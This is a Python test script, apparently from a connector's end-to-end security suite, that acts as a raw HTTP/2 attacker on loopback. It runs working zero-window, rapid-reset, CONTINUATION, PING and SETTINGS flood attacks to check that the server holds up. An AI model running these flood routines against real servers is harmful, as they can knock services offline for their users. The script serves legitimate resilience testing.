#!/usr/bin/env python3
"""A raw HTTP/2 adversary for the connector's edge (issue 21), built on PyPI `h2` and its `hpack` and
`hyperframe`: the HTTP/2 attacks no well-behaved client library makes.

Used by e2e/tests/third_party_attacks.rs, which starts the connector, runs one attack with this script,
judges the connector process by the kernel's figures and serves a legitimate client meanwhile. Attacks:

  zero-window   h2's H2Connection with SETTINGS_INITIAL_WINDOW_SIZE = 0, many authenticated tools/call
                streams on each connection; the answers can never be sent.
  rapid-reset   HEADERS + DATA (an authenticated tools/call) + RST_STREAM(CANCEL), stream after stream;
                a connection the server closes is replaced by a new one until --duration ends.
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames without END_HEADERS, forever:
                variant `big` (1 KiB header literals each) and `empty` (no payload).
  ping          PING frames as fast as the socket takes them: variant `read` (the ACKs are read) and
                `noread` (nothing is ever read back).
  settings      SETTINGS frames (each wants an ACK) as fast as the socket takes them: `read` / `noread`.

Every loop is bounded by --duration. One JSON object a line on standard output per connection, then a
summary line. Loopback only: the script refuses any other target address.
"""

import argparse
import asyncio
import json
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from h2.settings import SettingCodes
from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
# Pause writing while this much is queued in the transport (the socket does not take more).
HIGH_WATER = 256 * 1024


def tool_call_body(call_id):
    return json.dumps(
        {
            "jsonrpc": "2.0",
            "id": call_id,
            "method": "tools/call",
            "params": {"name": "get_dataset_metadata", "arguments": {}},
        },
        separators=(",", ":"),
    ).encode()


def request_headers(args, body_len):
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/mcp"),
        (":authority", f"127.0.0.1:{args.port}"),
        ("content-type", "application/json"),
        ("accept", "application/json, text/event-stream"),
        ("mcp-protocol-version", args.protocol_version),
        ("content-length", str(body_len)),
    ]
    if args.key:
        headers.append(("authorization", f"Bearer {args.key}"))
    return headers


def static_block(headers):
    """An HPACK block that leaves the decoder's dynamic table untouched, so it can be sent again and again:
    every field never-indexed (fully static matches stay static references)."""
    encoder = Encoder()
    block = encoder.encode([NeverIndexedHeaderTuple(n, v) for n, v in headers], huffman=False)
    assert len(encoder.header_table.dynamic_entries) == 0, "the block changed the HPACK table"
    return block


class Conn:
    """One raw connection: counters of what was sent and seen, and when the server closed it."""

    def __init__(self, args, attack, variant, index):
        self.args = args
        self.attack = attack
        self.variant = variant
        self.index = index
        self.started = time.monotonic()
        self.reader = None
        self.writer = None
        self.closed_at = None
        self.goaway = None  # (code, last stream id, seconds)
        self.frames_sent = 0
        self.bytes_sent = 0
        self.streams = 0
        self.sent_at = None
        self.headers_received = 0
        self.rst_received = 0
        self.data_received = 0
        self.settings_received = 0
        self.pings_received = 0
        self.acks_received = 0
        self.statuses = {}
        self.close_seen = None  # how the close showed: eof, reset (reading), write (a failed write)
        self.error = None
        self.server_settings = asyncio.Event()
        self.server_max_streams = None

    def now(self):
        return time.monotonic() - self.started

    async def open(self):
        self.reader, self.writer = await asyncio.wait_for(
            asyncio.open_connection(
                "127.0.0.1", self.args.port, local_addr=(self.args.source, 0), limit=1 << 16
            ),
            timeout=5,
        )
        self.started = time.monotonic()

    def is_closed(self):
        return self.closed_at is not None or self.writer.transport.is_closing()

    def mark_closed(self, seen="write"):
        if self.closed_at is None:
            self.closed_at = self.now()
            self.close_seen = seen

    def write(self, data, frames):
        if self.is_closed():
            self.mark_closed()
            return False
        self.writer.write(data)
        self.frames_sent += frames
        self.bytes_sent += len(data)
        return True

    async def backpressure(self, deadline):
        """Waits while the socket does not take more; returns False once closed or past the deadline."""
        while self.writer.transport.get_write_buffer_size() > HIGH_WATER:
            if self.is_closed():
                self.mark_closed()
                return False
            if time.monotonic() >= deadline:
                return False
            await asyncio.sleep(0.01)
        if self.is_closed():
            self.mark_closed()
            return False
        return time.monotonic() < deadline

    async def pump(self):
        """Reads frames until the server closes: acknowledges SETTINGS and PINGs, records GOAWAY."""
        buf = bytearray()
        try:
            while True:
                chunk = await self.reader.read(1 << 16)
                if not chunk:
                    self.mark_closed("eof")
                    return
                buf.extend(chunk)
                while len(buf) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(bytes(buf[:9])))
                    if len(buf) < 9 + length:
                        break
                    body = bytes(buf[9 : 9 + length])
                    del buf[: 9 + length]
                    frame.parse_body(memoryview(body))
                    self.on_frame(frame)
        except (ConnectionError, OSError):
            self.mark_closed("reset")
        except Exception as error:  # a frame hyperframe refuses: report, treat as closed
            self.error = f"parse: {error!r}"
            self.mark_closed("eof")

    def on_frame(self, frame):
        kind = frame.type
        if kind == SettingsFrame.type:
            if "ACK" in frame.flags:
                self.acks_received += 1
            else:
                self.settings_received += 1
                if SettingCodes.MAX_CONCURRENT_STREAMS in frame.settings:
                    self.server_max_streams = frame.settings[SettingCodes.MAX_CONCURRENT_STREAMS]
                self.server_settings.set()
                self.write(SettingsFrame(0, flags=["ACK"]).serialize(), 1)
        elif kind == PingFrame.type:
            if "ACK" in frame.flags:
                self.acks_received += 1
            else:
                self.pings_received += 1
                self.write(PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]).serialize(), 1)
        elif kind == GoAwayFrame.type:
            if self.goaway is None:
                self.goaway = (frame.error_code, frame.last_stream_id, self.now())
        elif kind == HeadersFrame.type:
            self.headers_received += 1
        elif kind == RstStreamFrame.type:
            self.rst_received += 1
        elif kind == DataFrame.type:
            self.data_received += len(frame.data)

    def report(self):
        return {
            "attack": self.attack,
            "variant": self.variant,
            "conn": self.index,
            "closed": self.closed_at is not None,
            "closed_after_s": None if self.closed_at is None else round(self.closed_at, 3),
            "goaway_code": None if self.goaway is None else self.goaway[0],
            "goaway_last_stream": None if self.goaway is None else self.goaway[1],
            "goaway_after_s": None if self.goaway is None else round(self.goaway[2], 3),
            "sent_at_s": None if self.sent_at is None else round(self.sent_at, 3),
            "frames_sent": self.frames_sent,
            "bytes_sent": self.bytes_sent,
            "streams": self.streams,
            "headers_received": self.headers_received,
            "statuses": self.statuses,
            "rst_received": self.rst_received,
            "close_seen": self.close_seen,
            "data_bytes_received": self.data_received,
            "settings_received": self.settings_received,
            "pings_received": self.pings_received,
            "acks_received": self.acks_received,
            "error": self.error,
        }

    async def finish(self, deadline):
        """After the attack loop: waits (reading when a pump runs) for the close until the deadline."""
        while not self.is_closed() and time.monotonic() < deadline:
            await asyncio.sleep(0.02)
        if self.writer.transport.is_closing():
            self.mark_closed()
        self.writer.transport.abort()


async def raw_hello(conn, read=True):
    """Preface and an empty SETTINGS. With `read`: starts the frame reader (which acknowledges the server's
    SETTINGS and PINGs) and waits for the server's SETTINGS; without, nothing is ever read."""
    conn.write(PREFACE + SettingsFrame(0).serialize(), 1)
    if not read:
        return None
    pump = asyncio.ensure_future(conn.pump())
    try:
        await asyncio.wait_for(conn.server_settings.wait(), timeout=5)
    except asyncio.TimeoutError:
        conn.error = "no SETTINGS from the server within 5 s"
    return pump


async def rapid_reset(conn, deadline):
    args = conn.args
    body = tool_call_body(1)
    block = static_block(request_headers(args, len(body)))
    pump = await raw_hello(conn)
    stream_id = 1
    while await conn.backpressure(deadline):
        batch = bytearray()
        for _ in range(args.batch):
            batch += HeadersFrame(stream_id, data=block, flags=["END_HEADERS"]).serialize()
            batch += DataFrame(stream_id, data=body, flags=["END_STREAM"]).serialize()
            batch += RstStreamFrame(stream_id, error_code=CANCEL).serialize()
            stream_id += 2
        if not conn.write(bytes(batch), 3 * args.batch):
            break
        conn.streams += args.batch
        await asyncio.sleep(0)
    conn.sent_at = conn.now()
    await conn.finish(min(deadline, time.monotonic() + 1.0))
    pump.cancel()


async def continuation(conn, deadline):
    args = conn.args
    head = static_block(
        [
            (":method", "GET"),
            (":scheme", "http"),
            (":path", "/healthz"),
            (":authority", f"127.0.0.1:{args.port}"),
        ]
    )
    pump = await raw_hello(conn)
    conn.write(HeadersFrame(1, data=head, flags=["END_STREAM"]).serialize(), 1)
    conn.streams = 1
    if conn.variant == "big":
        payload = static_block([("x-flood", "a" * 1000)])
    else:
        payload = b""
    one = ContinuationFrame(1, data=payload).serialize()
    per_batch = 16 if conn.variant == "big" else 1000
    batch = one * per_batch
    while await conn.backpressure(deadline):
        if not conn.write(batch, per_batch):
            break
        await asyncio.sleep(0)
    conn.sent_at = conn.now()
    await conn.finish(deadline)
    pump.cancel()


async def control_flood(conn, deadline, make_batch):
    # The noread variant never reads: the server's SETTINGS is not waited for (nor acknowledged).
    pump = await raw_hello(conn, read=conn.variant == "read")
    counter = 0
    while await conn.backpressure(deadline):
        data, frames = make_batch(counter)
        counter += frames
        if not conn.write(data, frames):
            break
        await asyncio.sleep(0)
    conn.sent_at = conn.now()
    await conn.finish(deadline)
    if pump is not None:
        pump.cancel()


async def ping_flood(conn, deadline):
    def batch(counter):
        n = conn.args.batch
        data = b"".join(
            PingFrame(0, opaque_data=struct.pack(">Q", counter + i)).serialize() for i in range(n)
        )
        return data, n

    await control_flood(conn, deadline, batch)


async def settings_flood(conn, deadline):
    def batch(counter):
        n = conn.args.batch
        data = b"".join(
            SettingsFrame(
                0,
                settings={
                    SettingCodes.HEADER_TABLE_SIZE: 4096 - ((counter + i) % 2),
                    SettingCodes.INITIAL_WINDOW_SIZE: 65535 + ((counter + i) % 2),
                    SettingCodes.ENABLE_PUSH: 0,
                },
            ).serialize()
            for i in range(n)
        )
        return data, n

    await control_flood(conn, deadline, batch)


async def zero_window(conn, deadline):
    """h2's own client state machine, with every stream's receive window at zero."""
    args = conn.args
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    h2conn = h2.connection.H2Connection(config=config)
    h2conn.local_settings = h2.settings.Settings(
        client=True,
        initial_values={SettingCodes.INITIAL_WINDOW_SIZE: 0, SettingCodes.ENABLE_PUSH: 0},
    )
    h2conn.initiate_connection()
    conn.write(h2conn.data_to_send(), 1)
    remote_settings = False
    opened = False
    buf = bytearray()
    try:
        while time.monotonic() < deadline:
            try:
                chunk = await asyncio.wait_for(
                    conn.reader.read(1 << 16), timeout=max(0.01, min(0.5, deadline - time.monotonic()))
                )
            except asyncio.TimeoutError:
                chunk = None
            if chunk == b"":
                conn.mark_closed("eof")
                break
            events = []
            if chunk:
                buf.extend(chunk)
            # Frame by frame, so that one frame h2 refuses does not hide the others (a GOAWAY first).
            while len(buf) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(bytes(buf[:9])))
                if len(buf) < 9 + length:
                    break
                raw = bytes(buf[: 9 + length])
                del buf[: 9 + length]
                if frame.type == GoAwayFrame.type and conn.goaway is None:
                    frame.parse_body(memoryview(raw[9:]))
                    conn.goaway = (frame.error_code, frame.last_stream_id, conn.now())
                if h2conn.state_machine.state == h2.connection.ConnectionState.CLOSED:
                    continue  # after a GOAWAY h2 refuses whatever follows: not the server's fault
                try:
                    events.extend(h2conn.receive_data(raw))
                except h2.exceptions.ProtocolError as error:
                    # e.g. DATA on a stream whose window is zero: the server broke flow control.
                    conn.error = f"h2 protocol error from the server: {error!r}"
            if events or chunk:
                for event in events:
                    if isinstance(event, h2.events.RemoteSettingsChanged):
                        remote_settings = True
                        value = event.changed_settings.get(SettingCodes.MAX_CONCURRENT_STREAMS)
                        if value is not None:
                            conn.server_max_streams = value.new_value
                    elif isinstance(event, h2.events.ResponseReceived):
                        conn.headers_received += 1
                        status = dict(event.headers).get(":status", "?")
                        conn.statuses[status] = conn.statuses.get(status, 0) + 1
                    elif isinstance(event, h2.events.DataReceived):
                        conn.data_received += len(event.data)
                    elif isinstance(event, h2.events.StreamReset):
                        conn.rst_received += 1
                    elif isinstance(event, h2.events.PingReceived):
                        conn.pings_received += 1
                pending = h2conn.data_to_send()
                if pending:
                    conn.write(pending, 1)
            if remote_settings and not opened:
                opened = True
                count = args.streams
                if conn.server_max_streams:
                    count = min(count, conn.server_max_streams)
                for call_id in range(count):
                    body = tool_call_body(call_id + 1)
                    stream_id = h2conn.get_next_available_stream_id()
                    h2conn.send_headers(stream_id, request_headers(args, len(body)))
                    h2conn.send_data(stream_id, body, end_stream=True)
                    conn.streams += 1
                conn.write(h2conn.data_to_send(), 2 * count)
                conn.sent_at = conn.now()
            if conn.is_closed():
                conn.mark_closed()
                break
    except (ConnectionError, OSError):
        conn.mark_closed("reset")
    conn.writer.transport.abort()


ATTACKS = {
    "zero-window": (zero_window, ["zero"]),
    "rapid-reset": (rapid_reset, ["reconnecting"]),
    "continuation": (continuation, ["big", "empty"]),
    "ping": (ping_flood, ["read", "noread"]),
    "settings": (settings_flood, ["read", "noread"]),
}


async def rapid_reset_slot(args, index, deadline):
    """Rapid reset as attackers run it: when the server closes a connection, open the next one, until the
    deadline (at most 20,000 connections). One aggregated report for the slot."""
    total = {
        "attack": "rapid-reset", "variant": "reconnecting", "conn": index, "connections": 0,
        "connect_errors": 0, "closed_by_server": 0, "streams": 0, "frames_sent": 0, "bytes_sent": 0,
        "headers_received": 0, "rst_received": 0, "goaways": {}, "goaway_code": None,
        "max_streams_one_connection": 0, "longest_connection_s": 0.0, "error": None,
    }
    while time.monotonic() < deadline and total["connections"] < 20_000:
        conn = Conn(args, "rapid-reset", "reconnecting", index)
        try:
            await conn.open()
        except Exception as error:  # refused, reset or timed out: counted, tried again shortly
            total["connect_errors"] += 1
            total["error"] = f"connect: {error!r}"
            await asyncio.sleep(0.05)
            continue
        total["connections"] += 1
        try:
            await rapid_reset(conn, deadline)
        except Exception as error:
            total["error"] = f"{type(error).__name__}: {error}"
            conn.writer.transport.abort()
        report = conn.report()
        for field in ("streams", "frames_sent", "bytes_sent", "headers_received", "rst_received"):
            total[field] += report[field]
        total["max_streams_one_connection"] = max(total["max_streams_one_connection"], report["streams"])
        if report["closed"]:
            total["closed_by_server"] += 1
            total["longest_connection_s"] = max(total["longest_connection_s"], report["closed_after_s"])
        if report["goaway_code"] is not None:
            code = str(report["goaway_code"])
            total["goaways"][code] = total["goaways"].get(code, 0) + 1
            total["goaway_code"] = report["goaway_code"]
    return total


async def run_one(args, attack, variant, index, deadline):
    if attack == "rapid-reset":
        return await rapid_reset_slot(args, index, deadline)
    function = ATTACKS[attack][0]
    conn = Conn(args, attack, variant, index)
    try:
        await conn.open()
    except Exception as error:  # refused, reset or timed out: reported, not raised
        conn.error = f"connect: {error!r}"
        conn.mark_closed()
        return conn.report()
    try:
        await function(conn, deadline)
    except Exception as error:
        conn.error = f"{type(error).__name__}: {error}"
        if conn.writer is not None:
            conn.writer.transport.abort()
    return conn.report()


async def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--attack", required=True, choices=sorted(ATTACKS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--source", default="127.0.0.1", help="local address to connect from")
    parser.add_argument("--connections", type=int, default=8, help="split evenly over the variants")
    parser.add_argument("--streams", type=int, default=100, help="zero-window: streams per connection")
    parser.add_argument("--batch", type=int, default=100, help="frames (or streams) per write")
    parser.add_argument("--duration", type=float, default=15.0, help="bound of every connection, s")
    parser.add_argument("--key", default="", help="API key sent as a bearer token")
    parser.add_argument("--protocol-version", default="2025-06-18")
    args = parser.parse_args()
    if not args.source.startswith("127."):
        sys.exit("loopback only")
    started = time.monotonic()
    deadline = started + args.duration
    variants = ATTACKS[args.attack][1]
    tasks = [
        run_one(args, args.attack, variants[i % len(variants)], i, deadline) for i in range(args.connections)
    ]
    for report in await asyncio.gather(*tasks):
        print(json.dumps(report), flush=True)
    print(
        json.dumps(
            {"summary": True, "attack": args.attack, "connections": args.connections,
             "wall_s": round(time.monotonic() - started, 3)}
        ),
        flush=True,
    )


if __name__ == "__main__":
    asyncio.run(main())
